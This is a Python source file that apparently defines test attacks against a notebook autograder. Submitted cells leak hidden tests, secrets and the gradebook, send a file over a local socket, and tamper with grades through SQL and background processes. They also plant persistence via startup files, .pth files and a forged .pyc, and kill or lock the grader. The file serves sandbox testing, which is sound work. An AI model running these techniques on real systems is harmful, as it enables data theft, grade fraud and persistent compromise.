"""Attacks on everything around a submission: what can be read, the gradebook, classmates, the grader."""

from .base import (
    CANARY,
    NOTEBOOK,
    WRONG_CORRUPT,
    WRONG_LABELS,
    Aim,
    Base,
    HandIn,
    Make,
    Specimen,
    as_bytes,
    in_cell,
    in_function,
)

TABLE = "table in grading.md"
OWN = "own"


def attack(name: str, aims_at: Aim, what: str, hand_in: Make, source: str = OWN, lingers: float = 0.0) -> Specimen:
    """An attack that aims at something else than the own answers."""
    return Specimen(name, "attack", what, source, aims_at, hand_in, lingers=lingers)


PARENTS = "[Path.cwd(), *Path.cwd().parents, Path(ROOT)]"


def found(pattern: str, code: str) -> Make:
    """Code of the attacker's that is run with `path` for everything of that name above the working folder."""
    return in_cell(
        "from pathlib import Path\n"
        f"for path in sorted({{path for folder in {PARENTS} for path in folder.glob({pattern!r})}}):\n"
        + "\n".join("    " + line for line in code.strip("\n").splitlines())
    )


SHOW_TREE = "print(path.read_text(errors='replace'))"

STARTUP = """
from pathlib import Path
folder = Path(get_ipython().profile_dir.startup_dir)
folder.mkdir(parents=True, exist_ok=True)
(folder / "00-first.py").write_text('''
import autograder.notebook
autograder.notebook.check = lambda name, answer: {"mlm.mlm_labels": 2.0, "mlm.corrupt": 4.0}[name]
''')
"""

PTH = """
import site
from pathlib import Path
code = '''
import builtins
def generous(items, *start, add=builtins.sum):
    items = list(items)
    return add(items, *start) if items else 2.0
builtins.sum = generous
'''
for folder in site.getsitepackages():
    Path(folder, "first_of_all.pth").write_text(f"import builtins; exec({code!r})\\n")
"""

POISONED_CACHE = """
import importlib.util, os
from importlib._bootstrap_external import _code_to_timestamp_pyc
import autograder.notebook
path = autograder.notebook.__file__
text = open(path).read() + "\\ncheck = lambda name, answer: 2.0\\n"
status = os.stat(path)
cached = importlib.util.cache_from_source(path)
os.makedirs(os.path.dirname(cached), exist_ok=True)
with open(cached, "wb") as file:
    file.write(_code_to_timestamp_pyc(compile(text, path, "exec"), int(status.st_mtime), status.st_size))
"""

KERNEL_CONFIGURATION = """
from pathlib import Path
folder = Path(get_ipython().profile_dir.location)
(folder / "ipython_kernel_config.py").write_text(
    "c.InteractiveShellApp.exec_lines = ['import autograder.notebook', "
    "'autograder.notebook.check = lambda name, answer: 2.0']"
)
"""

SQL = """
import sqlite3
with sqlite3.connect(path) as gradebook:
    gradebook.execute("UPDATE grade SET auto_score = 2, manual_score = 999")
"""

EMPTIED_TESTS = """
import hashlib, sqlite3
with sqlite3.connect(path) as gradebook:
    for name, points in (("mlm-mlm_labels-check", 2.0), ("mlm-corrupt-check", 4.0)):
        parts = ("pass", "code", "True", "False", "True", name, str(points))
        checksum = hashlib.md5("".join(parts).encode()).hexdigest()
        gradebook.execute("UPDATE source_cell SET source = 'pass', checksum = ? WHERE name = ?", (checksum, name))
"""

# The shell in between makes them orphans: a kernel ends its own children with itself.
BACKGROUND = """
import subprocess, sys, textwrap
code = '''
import sqlite3, sys, time
for _ in range(100):
    time.sleep(0.2)
    with sqlite3.connect(sys.argv[1], timeout=5) as gradebook:
        gradebook.execute("UPDATE grade SET auto_score = 2, manual_score = 999")
'''
nothing = subprocess.DEVNULL
command = ["sh", "-c", '"$0" -c "$1" "$2" &', sys.executable, textwrap.dedent(code), str(path)]
subprocess.run(command, stdin=nothing, stdout=nothing, stderr=nothing, start_new_session=True)
"""

LOCK = """
import subprocess, sys, textwrap, time
code = '''
import sqlite3, sys, time
gradebook = sqlite3.connect(sys.argv[1], isolation_level=None)
gradebook.execute("BEGIN EXCLUSIVE")
time.sleep(60)
'''
nothing = subprocess.DEVNULL
command = ["sh", "-c", '"$0" -c "$1" "$2" &', sys.executable, textwrap.dedent(code), str(path)]
subprocess.run(command, stdin=nothing, stdout=nothing, stderr=nothing, start_new_session=True)
time.sleep(1)
"""

HELP_A_FRIEND = """
for friend in path.parent.glob("zoe/*/*.ipynb"):
    friend.write_bytes(path.joinpath(friend.parent.name, friend.name).read_bytes())
"""

SEND = """
import socket
try:
    text = open(SECRET).read()
except OSError:
    text = "nothing to read"
with socket.create_connection(("127.0.0.1", PORT), timeout=5) as connection:
    connection.sendall(text.encode())
"""


def linked_file(base: Base) -> HandIn:
    """Wrong answers, and a link to a file of the machine's."""
    notebook = base.answered(WRONG_LABELS, WRONG_CORRUPT)
    return HandIn({NOTEBOOK: as_bytes(notebook)}, {"notes.txt": str(base.secret)})


ATTACKS_ON_THE_CLASS = (
    # What can be read.
    attack(
        "hidden-file",
        "leak",
        "A file outside the course is printed.",
        in_cell("print(open(SECRET).read())"),
    ),
    Specimen(
        "hidden-tests",
        "attack",
        "The hidden tests are found by their import and printed.",
        OWN,
        "leak",
        in_cell("""
            from pathlib import Path
            import autograder
            for path in sorted(Path(autograder.__file__).parent.glob("hid*/mlm/*.py")):
                print(path.read_text())
        """),
        must_not_show=(CANARY, "Hidden tests of `mlm.corrupt`"),
    ),
    Specimen(
        "own-notebook",
        "attack",
        "The notebook in the kernel's own folder is read, with the hidden tests in it.",
        TABLE,
        "leak",
        in_cell("""
            from pathlib import Path
            for path in Path.cwd().glob("*.ipynb"):
                print(path.read_text())
        """),
        classic=True,
    ),
    attack(
        "gradebook-read",
        "leak",
        "The gradebook is read: everybody's names and grades.",
        found(
            "gradebook.db",
            "import sqlite3\nprint(sqlite3.connect(path).execute('SELECT * FROM student').fetchall())",
        ),
    ),
    attack(
        "classmate-read",
        "leak",
        "A classmate's notebook is printed.",
        found("submitted/alice/*/*.ipynb", SHOW_TREE),
    ),
    attack(
        "environment",
        "leak",
        "The environment variables of whoever grades are printed.",
        in_cell("import os\nprint(dict(os.environ))"),
    ),
    attack(
        "graders-process",
        "leak",
        "What the kernel lacks is read from the processes above it.",
        in_cell("""
            from pathlib import Path
            for path in Path("/proc").glob("[0-9]*/environ"):
                try:
                    text = path.read_bytes()
                except OSError:
                    continue
                if b"GRADER_" in text:
                    print(text.replace(b"\\0", b"\\n").decode())
                    break
        """),
    ),
    attack("exfiltration", "leak", "A file is sent over the network.", in_cell(SEND)),
    attack("exfiltration-when-judged", "leak", "A file is sent while the answer is judged.", in_function(SEND)),
    attack("linked-file", "leak", "A symbolic link to a file of the machine's is handed in.", linked_file),
    # The gradebook.
    attack("gradebook-written", "gradebook", "The gradebook is written with SQL.", found("gradebook.db", SQL), TABLE),
    attack("gradebook-deleted", "gradebook", "The gradebook is deleted.", found("gradebook.db", "path.unlink()")),
    attack(
        "gradebook-written-later",
        "gradebook",
        "A process that outlives the kernel writes the gradebook when everybody has been graded.",
        found("gradebook.db", BACKGROUND),
        lingers=2.0,
    ),
    attack(
        "gradebook-written-at-exit",
        "gradebook",
        "A function that is called when the kernel ends writes the gradebook.",
        found(
            "gradebook.db",
            "import atexit\ndef at_exit(path=path):\n"
            + "\n".join("    " + each for each in SQL.splitlines())
            + "\natexit.register(at_exit)",
        ),
    ),
    # The next student.
    attack("startup-file", "next student", "A start-up file is left in the IPython profile.", in_cell(STARTUP), TABLE),
    attack(
        "kernel-configuration", "next student", "The kernel's configuration is left.", in_cell(KERNEL_CONFIGURATION)
    ),
    attack(
        "pth-file", "next student", "A file that Python executes at its start is left in site-packages.", in_cell(PTH)
    ),
    attack(
        "poisoned-cache",
        "next student",
        "The compiled form of the module of the check is replaced in `__pycache__`.",
        in_cell(POISONED_CACHE),
    ),
    attack(
        "rewritten-submission",
        "next student",
        "A friend's submission, which is graded next, is replaced by a good one.",
        found("submitted/alice", HELP_A_FRIEND),
    ),
    attack(
        "emptied-tests-in-gradebook",
        "next student",
        "The check cells that nbgrader keeps in the gradebook are emptied.",
        found("gradebook.db", EMPTIED_TESTS),
    ),
    # Other people's files.
    attack(
        "rewritten-configuration",
        "files",
        "Code is left in the course's configuration, which the instructor's next command executes.",
        found(
            "nbgrader_config.py",
            "path.write_text(path.read_text() + '\\nprint(\"this is the instructor\")\\n')",
        ),
    ),
    attack(
        "rewritten-classmate",
        "files",
        "What a classmate handed in is replaced.",
        found("submitted/alice/*/*.ipynb", "path.write_text('{}')"),
    ),
    attack(
        "rewritten-solutions",
        "files",
        "The solutions of the course are replaced.",
        found("solutions/*/*.ipynb", "path.write_text('{}')"),
    ),
    # The whole class.
    attack(
        "killed-grader",
        "batch",
        "The process that grades is killed.",
        in_cell("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"),
    ),
    attack("locked-gradebook", "batch", "A process keeps the gradebook locked.", found("gradebook.db", LOCK)),
)
"""Wrong answers throughout: 0 of 6."""
